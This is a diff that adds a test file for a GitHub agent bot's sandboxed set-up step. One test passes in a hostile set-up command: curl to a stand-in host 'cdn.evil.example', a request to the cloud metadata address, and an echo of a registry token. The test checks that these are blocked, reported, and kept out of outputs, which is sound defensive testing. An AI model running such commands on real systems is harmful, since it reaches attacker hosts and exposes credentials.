@@ -1,0 +1,61 @@
+/** Whole runs with a set-up: what the asker is told of it, and that the run goes on whatever it does. */
+import { join } from "node:path";
+import { readFile } from "node:fs/promises";
+import { expect, test } from "vitest";
+import type { Script } from "../../sim/models/models.ts";
+import { readTaskJournal } from "../../src/store/journal.ts";
+import { AT, REPO } from "../github.ts";
+import { World } from "../world.ts";
+import { readTree } from "./read-tree.ts";
+
+const STORY = join(import.meta.dirname, "label-to-pull");
+const ISSUE = { title: "Typo in the greeting", body: "It says `Helo`." };
+const TOKEN = "registry-token-0123456789";
+
+async function openWorld(settings: string): Promise<World> {
+  const script: Script = JSON.parse(await readFile(join(STORY, "script.json"), "utf8"));
+  for (const conversation of script.conversations) conversation.match = "It says `Helo`";
+  const files = { ...(await readTree(join(STORY, "repo"))), ".github/agent.yml": settings };
+  const env = { PULLWRIGHT_SETUP_ENV: "REGISTRY_TOKEN", REGISTRY_TOKEN: TOKEN };
+  return World.open({ wire: "anthropic", script, files, env });
+}
+
+function said(world: World): string {
+  return world.github.comments(REPO).find(({ user }) => user?.login === "pullwright[bot]")?.body ?? "";
+}
+
+test("a set-up that fails and asks for hosts it may not reach is told with the line to add, and the work is done", async () => {
+  const asks =
+    "set +e; curl -s https://cdn.evil.example/x; curl -s http://169.254.169.254/; echo $REGISTRY_TOKEN; exit 3";
+  await using world = await openWorld(`setup: '${asks}'\n`);
+  await world.labelIssue(ISSUE);
+  const [task] = await world.ended(1);
+  expect(task).toMatchObject({ state: "succeeded", attempt: 1 });
+  expect(world.github.pulls(REPO)).toHaveLength(1);
+  expect(said(world)).toContain("failed with exit 3; the agent worked without it.");
+  expect(said(world)).toContain("The set-up was refused `cdn.evil.example:443` (not on the list)");
+  expect(said(world)).toContain("`network: { setup: [cdn.evil.example] }`");
+  const entries = task ? await readTaskJournal(world.store.database, task.id) : [];
+  const briefed = entries.find(({ entry }) => entry.kind === "briefed")?.entry;
+  expect(briefed?.kind === "briefed" && briefed.brief).toContain("It failed with exit 3.");
+  expect(JSON.stringify([entries, world.github.comments(REPO), world.github.pulls(REPO)])).not.toContain(TOKEN);
+});
+
+test("what a set-up made is in place for checks and agent, and no part of the change", async () => {
+  await using world = await openWorld(`setup: 'mkdir deps && echo here >deps/x'\nchecks: ['cat deps/x']\n`);
+  for (const [i, isCached] of [false, true].entries()) {
+    await world.labelIssue({ ...ISSUE, title: `${ISSUE.title} ${i}` });
+    const [task] = await world.ended(i + 1);
+    const entries = task ? await readTaskJournal(world.store.database, task.id) : [];
+    expect(entries.map(({ entry }) => entry)).toContainEqual(
+      expect.objectContaining({ kind: "set-up-finished", isCached }),
+    );
+    const checks = entries.flatMap(({ entry }) => (entry.kind === "verified" ? [entry.command.exitCode] : []));
+    expect(checks).toEqual([0, 0]);
+  }
+  const { data } = await world.as("ada").pulls.list({ ...AT, state: "open" });
+  for (const { number } of data) {
+    const files = (await world.as("ada").pulls.listFiles({ ...AT, pull_number: number })).data;
+    expect(files.map(({ filename }) => filename)).toEqual(["greet.sh"]);
+  }
+});
